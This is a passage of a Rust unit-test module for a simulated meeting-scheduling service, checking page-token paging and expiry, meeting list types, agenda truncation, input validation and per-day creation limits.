        a.seed(50, clock().unix, &User::jill());
        b.seed(50, clock().unix, &User::jill());
        let ids = |s: &MeetingStore| s.meetings.iter().map(|m| m.id).collect::<Vec<_>>();
        assert_eq!(ids(&a), ids(&b));
    }

    #[test]
    fn paging_walks_every_meeting_once() {
        let mut store = MeetingStore::new("http://sim".into(), 2);
        store.seed(95, clock().unix, &User::jill());
        let now = clock();
        let mut seen = Vec::new();
        let mut token: Option<String> = None;
        let mut pages = 0;
        loop {
            let page = store
                .list(ListType::Scheduled, 30, token.as_deref(), None, "h", now)
                .unwrap_or_else(|e| panic!("{e:?}"));
            pages += 1;
            assert_eq!(page.total_records, 95);
            assert_eq!(page.page_count, 4);
            assert_eq!(page.page_number, pages);
            seen.extend(page.meetings.iter().map(|m| m.id));
            if page.next_page_token.is_empty() {
                break;
            }
            token = Some(page.next_page_token);
        }
        assert_eq!(pages, 4);
        seen.sort_unstable();
        seen.dedup();
        assert_eq!(seen.len(), 95);
        // An unknown token is refused.
        assert_eq!(
            store
                .list(ListType::Scheduled, 30, Some("nope"), None, "h", now)
                .err(),
            Some(ListError::BadPageToken)
        );
    }

    #[test]
    fn page_tokens_are_capped_dropping_the_oldest() {
        let mut store = MeetingStore::new("http://sim".into(), 4);
        store.seed(40, clock().unix, &User::jill());
        let t0 = clock();
        let first_page = |store: &mut MeetingStore, ms: u64| {
            let at = Clock {
                mono: t0.mono + Duration::from_millis(ms),
                unix: t0.unix,
            };
            store
                .list(ListType::Scheduled, 30, None, None, "h", at)
                .unwrap_or_else(|e| panic!("{e:?}"))
                .next_page_token
        };
        let oldest = first_page(&mut store, 0);
        let tokens: Vec<String> = (1..=MAX_PAGE_TOKENS as u64)
            .map(|ms| first_page(&mut store, ms))
            .collect();
        assert_eq!(store.cursors.len(), MAX_PAGE_TOKENS);
        let now = Clock {
            mono: t0.mono + Duration::from_secs(1),
            unix: t0.unix,
        };
        let next = |store: &mut MeetingStore, token: &str| {
            store.list(ListType::Scheduled, 30, Some(token), None, "h", now)
        };
        assert_eq!(
            next(&mut store, &oldest).err(),
            Some(ListError::BadPageToken)
        );
        assert!(next(&mut store, &tokens[0]).is_ok());
    }

    #[test]
    fn page_tokens_expire_after_15_minutes() {
        let mut store = MeetingStore::new("http://sim".into(), 3);
        store.seed(40, clock().unix, &User::jill());
        let now = clock();
        let page = store
            .list(ListType::Scheduled, 30, None, None, "h", now)
            .unwrap_or_else(|e| panic!("{e:?}"));
        let later = Clock {
            mono: now.mono + PAGE_TOKEN_TTL,
            unix: now.unix + 900,
        };
        assert_eq!(
            store
                .list(
                    ListType::Scheduled,
                    30,
                    Some(&page.next_page_token),
                    None,
                    "h",
                    later
                )
                .err(),
            Some(ListError::BadPageToken)
        );
    }

    #[test]
    fn list_types_partition_by_time_and_skip_instant_meetings() {
        let mut store = MeetingStore::new("http://sim".into(), 4);
        let now = clock();
        store.seed(100, now.unix, &User::jill());
        let user = User::jill();
        store
            .create(&json!({"type": 1, "topic": "instant"}), &user, now)
            .unwrap_or_else(|e| panic!("{e:?}"));
        let count = |store: &mut MeetingStore, t| {
            store
                .list(t, 300, None, None, "h", now)
                .map(|p| p.total_records)
                .unwrap_or(0)
        };
        let scheduled = count(&mut store, ListType::Scheduled);
        let live = count(&mut store, ListType::Live);
        let upcoming = count(&mut store, ListType::Upcoming);
        let previous = count(&mut store, ListType::PreviousMeetings);
        assert_eq!(scheduled, 100);
        assert_eq!(upcoming + previous, 100);
        assert!(live >= 1 && live <= upcoming);
        assert!(previous >= 1);
        assert_eq!(upcoming, count(&mut store, ListType::UpcomingMeetings));
    }

    #[test]
    fn list_agendas_are_cut_at_250_characters() {
        let mut store = MeetingStore::new("http://sim".into(), 5);
        store.seed(10, clock().unix, &User::jill());
        let page = store
            .list(ListType::Scheduled, 300, None, None, "h", clock())
            .unwrap_or_else(|e| panic!("{e:?}"));
        assert!(
            page.meetings
                .iter()
                .all(|m| m.agenda.chars().count() <= 250)
        );
        assert!(
            page.meetings
                .iter()
                .any(|m| m.agenda.chars().count() == 250)
        );
    }

    #[test]
    fn create_validates_and_counts_per_day() {
        let mut store = MeetingStore::new("http://sim".into(), 6);
        let user = User::jill();
        let now = clock();
        let bad = [
            (json!({"type": 5}), "type"),
            (json!({"type": "2"}), "type"),
            (json!({"topic": "x".repeat(201)}), "topic"),
            (json!({"agenda": "x".repeat(2001)}), "agenda"),
            (json!({"password": "12345678901"}), "password"),
            (json!({"password": "a b"}), "password"),
            (json!({"start_time": "tomorrow"}), "start_time"),
            (json!({"timezone": "Mars/Olympus"}), "timezone"),
            (json!({"duration": -5}), "duration"),
        ];
        for (body, field) in bad {
            assert_eq!(
                store.create(&body, &user, now),
                Err(CreateError::Body(BodyError::Invalid(vec![field.into()]))),
                "{body}"
            );
        }
        assert_eq!(
            store.create(&json!([1]), &user, now),
            Err(CreateError::Body(BodyError::NotAnObject))
        );
        // Emoji count as characters, not bytes.
        let id = store
            .create(
                &json!({"topic": "🚀".repeat(200), "start_time": "2030-01-02T03:04:05",
                        "timezone": "Asia/Tokyo"}),
                &user,
                now,
            )
            .unwrap_or_else(|e| panic!("{e:?}"));
        let m = store.get(id).cloned().unwrap_or_else(|| panic!("stored"));
        assert_eq!(m.start.map(iso).as_deref(), Some("2030-01-01T18:04:05Z"));
        for _ in 1..DAILY_CREATE_LIMIT {
            assert!(store.create(&json!({}), &user, now).is_ok());
        }
        let reset_at = (now.unix.div_euclid(86_400) + 1) * 86_400;
        assert_eq!(
            store.create(&json!({}), &user, now),
            Err(CreateError::DailyLimit { reset_at })
        );
        let tomorrow = Clock {
            mono: now.mono,
            unix: reset_at,
        };
        assert!(store.create(&json!({}), &user, tomorrow).is_ok());
    }

    #[test]
    fn truncation_respects_characters() {
        assert_eq!(truncate_chars("議題一二", 2), "議題");
        assert_eq!(truncate_chars("ab", 5), "ab");
    }
}
